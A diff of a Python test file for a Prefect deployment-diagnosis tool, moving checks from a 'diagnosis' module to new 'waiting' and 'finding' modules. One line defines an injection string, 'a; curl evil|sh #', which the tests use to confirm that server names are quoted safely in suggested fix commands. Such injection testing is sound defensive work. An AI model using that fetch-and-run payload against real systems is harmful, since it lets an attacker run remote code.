@@ -9,10 +9,11 @@ from typing import Any
 
 import pytest
 
-from deployer import diagnosis
-from deployer.diagnosis import Deployed, Finding, Limit, Pool, Queue, Run, Server
+from deployer import diagnosis, finding, waiting
 from deployer.environment import Source
+from deployer.finding import Finding
 from deployer.model import Release
+from deployer.seen import Deployed, Limit, Pool, Queue, Run, Server
 
 NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
 A, B = "a" * 40, "b" * 40
@@ -54,7 +55,7 @@ def release(number: int = 7, result: str = "succeeded", **changes: Any) -> Relea
 def why(found: Pool | None, of: Deployed | None = None, **changes: Any) -> Finding:
     """The line about one late run."""
     of = of or deployed()
-    [line] = diagnosis.late([run(**changes)], True, {of.id: of}, {found.name: found} if found else {}, NOW)
+    [line] = waiting.late([run(**changes)], True, {of.id: of}, {found.name: found} if found else {}, NOW)
     return line
 
 
@@ -263,12 +264,12 @@ def test_the_queue_that_counts_is_the_deployments_own() -> None:
 def test_late_runs_are_told_by_their_reasons() -> None:
     there = {"1": deployed(), "2": deployed(id="2", name="other/other", pool="gone")}
     runs = [run(), run(due=ago(300)), run(deployment="2")]
-    lines = diagnosis.late(runs, False, there, {"alpha": pool(paused=True)}, NOW)
+    lines = waiting.late(runs, False, there, {"alpha": pool(paused=True)}, NOW)
     assert [line.seen.partition(",")[0] for line in lines] == [
         "2 or more runs of hello/hello",
         "1 or more runs of other/other",
     ]
-    assert diagnosis.late([], True, there, {}, NOW) == [diagnosis.ok("late runs", "none")]
+    assert waiting.late([], True, there, {}, NOW) == [finding.ok("late runs", "none")]
 
 
 EVIL = "a; curl evil|sh #"
@@ -281,7 +282,7 @@ def test_a_name_of_the_servers_is_one_word_in_every_fix() -> None:
     own = deployed(pool=EVIL, queue=EVIL)
     fixes = [
         *(line.fix for line in diagnosis.queues([bad])),
-        *(line.fix for line in diagnosis.limits([limit(EVIL)], {EVIL}, {})),
+        *(line.fix for line in waiting.limits([limit(EVIL)], {EVIL}, {})),
         *(diagnosis.pool(EVIL, EVIL, p, NOW, "dev").fix for p in (bad, replace(quiet, heartbeat=None))),
         *(why(p, own).fix for p in (bad, replace(bad, paused=False), quiet, replace(quiet, heartbeat=None))),
     ]
@@ -295,21 +296,21 @@ def test_a_name_of_the_servers_is_one_word_in_every_fix() -> None:
 
 def test_schedules_without_runs_ahead_are_the_schedulers_fault_when_none_has_any() -> None:
     both = [deployed(), deployed(id="2", name="other/other")]
-    assert diagnosis.schedules(both, {"1", "2"}, NOW).state == "ok"
-    some, none = diagnosis.schedules(both, {"1"}, NOW), diagnosis.schedules(both, set(), NOW)
+    assert waiting.schedules(both, {"1", "2"}, NOW).state == "ok"
+    some, none = waiting.schedules(both, {"1"}, NOW), waiting.schedules(both, set(), NOW)
     assert (some.state, none.state) == ("warning", "problem")
     assert "other/other" in some.seen and "sqlalchemy<2.1" in none.fix
 
 
 def test_what_was_written_just_now_may_still_have_no_runs() -> None:
-    assert diagnosis.schedules([deployed(updated=ago(30))], set(), NOW).state == "ok"
-    assert diagnosis.schedules([deployed(scheduled=False)], set(), NOW).seen == "no schedule is active"
+    assert waiting.schedules([deployed(updated=ago(30))], set(), NOW).state == "ok"
+    assert waiting.schedules([deployed(scheduled=False)], set(), NOW).seen == "no schedule is active"
 
 
 def test_a_full_limit_without_a_run_is_a_dead_runs_lock() -> None:
-    [stuck] = diagnosis.limits([limit(), limit("other")], {"lock"}, {})
+    [stuck] = waiting.limits([limit(), limit("other")], {"lock"}, {})
     assert stuck.state == "problem" and stuck.fix.endswith("prefect gcl update lock --active-slots 0")
-    [held] = diagnosis.limits([limit(), limit("free", active=0)], set(), {"lock": "deployment hello/hello"})
+    [held] = waiting.limits([limit(), limit("free", active=0)], set(), {"lock": "deployment hello/hello"})
     assert held.state == "ok" and held.seen == "2 limits, none held by a dead run; full: deployment hello/hello"
 
 
@@ -319,7 +320,7 @@ def test_limits_that_hold_nothing_back_for_good_are_not_full(changes: dict[str, 
 
 
 def test_a_limit_of_0_is_told() -> None:
-    [found] = diagnosis.limits([limit(of=0, active=0)], set(), {})
+    [found] = waiting.limits([limit(of=0, active=0)], set(), {})
     assert found.state == "warning" and "lets nothing through" in found.seen
     assert "in the repository" in found.fix and "gcl" not in found.fix
 
@@ -334,19 +335,19 @@ prefect.exceptions.ScriptError: Script at 'flows/hello.py' encountered an except
 
 
 def test_a_run_that_could_not_import_its_flow_is_told_with_the_module() -> None:
-    found = diagnosis.failures([run(state="Crashed"), run()], True, LOG, {"1": deployed()})
+    found = waiting.failures([run(state="Crashed"), run()], True, LOG, {"1": deployed()})
     assert found.state == "problem" and "2 runs of hello/hello" in found.seen
     assert "'otter', could not import its flow: ModuleNotFoundError: No module named 'polars'" in found.seen
 
 
 def test_other_failures_are_the_flows_own() -> None:
-    found = diagnosis.failures([run(state="Failed", message="no such table: bars")], True, LOG, {"1": deployed()})
+    found = waiting.failures([run(state="Failed", message="no such table: bars")], True, LOG, {"1": deployed()})
     assert found.state == "warning" and found.seen.endswith("the newest, 'otter': no such table: bars")
-    assert diagnosis.failures([], True, "", {}).state == "ok"
+    assert waiting.failures([], True, "", {}).state == "ok"
 
 
 @pytest.mark.parametrize(
     ("seconds", "words"), [(0.4, "0 s"), (119, "119 s"), (600, "10 min"), (7200, "2 h"), (400_000, "5 days")]
 )
 def test_spans_are_told_in_the_unit_that_fits(seconds: float, words: str) -> None:
-    assert diagnosis.span(seconds) == words
+    assert finding.span(seconds) == words
